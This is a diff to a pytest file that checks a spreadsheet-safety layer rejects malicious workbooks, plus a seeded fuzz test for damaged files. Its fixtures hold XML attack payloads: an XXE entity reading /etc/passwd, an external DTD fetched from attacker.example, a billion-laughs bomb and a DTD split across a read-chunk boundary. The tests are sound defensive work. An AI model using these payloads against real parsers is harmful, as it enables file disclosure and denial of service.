@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import io
 import os
+import random
 import struct
 import time
 import tracemalloc
@@ -16,7 +17,13 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from training.services.workbook_limits import WorkbookRejected, open_workbook_safely, read_ranges
+from training.services.workbook_limits import (
+    CHUNK,
+    REASONS,
+    WorkbookRejected,
+    open_workbook_safely,
+    read_ranges,
+)
 
 SECONDS = 3.0
 PEAK_BYTES = 50 * 1024 * 1024
@@ -96,6 +103,7 @@ def zeros(size: int) -> Callable[[], Iterable[bytes]]:
 
 
 XXE = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+EXTERNAL_DTD = b'<!DOCTYPE worksheet SYSTEM "http://attacker.example/evil.dtd">'
 LAUGHS = (
     b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
     + b"".join(
@@ -141,6 +149,17 @@ CASES = {
         lambda: rewrite(
             valid_workbook(),
             {"[Content_Types].xml": b'<?xml version="1.0"?>' + LAUGHS + b"<Types>&lol9;</Types>"},
+        ),
+        "forbidden_xml",
+    ),
+    "a DTD across two pieces read": (  # "<!DOC" ends the first 64 KB unpacked, "TYPE" starts the next
+        lambda: rewrite(
+            valid_workbook(),
+            {
+                SHEET: b'<?xml version="1.0"?>'
+                + b" " * (CHUNK - 26)
+                + sheet_xml(prolog=XXE).split(b"?>\n", 1)[1]
+            },
         ),
         "forbidden_xml",
     ),
@@ -235,3 +254,20 @@ def test_the_official_undrr_workbook_opens_with_macros_allowed():
     assert rejected.value.reason == "macros"
     values = read_ranges(data, {"Results": ["C175:C176"], "E01": ["B3"]}, allow_macros=True)
     assert values == {"Results": {"C175:C176": [["P1.1"], ["P1.2"]]}, "E01": {"B3": [["P1.1 - Plan making"]]}}
+
+
+def test_damaged_workbooks_are_refused_never_an_unexpected_error():
+    """A seeded fuzz: bytes changed here and there, or cut short."""
+    good, rng = valid_workbook(), random.Random(21)
+    for _ in range(150):
+        data = bytearray(good)
+        for _ in range(rng.randint(1, 8)):
+            data[rng.randrange(len(data))] = rng.randrange(256)
+        if rng.random() < 0.2:
+            data = data[: rng.randrange(len(data))]
+        try:
+            with open_workbook_safely(bytes(data)) as book:
+                for sheet in book.sheetnames:
+                    list(book.rows(sheet, max_row=50, max_col=10))
+        except WorkbookRejected as rejected:
+            assert rejected.reason in REASONS
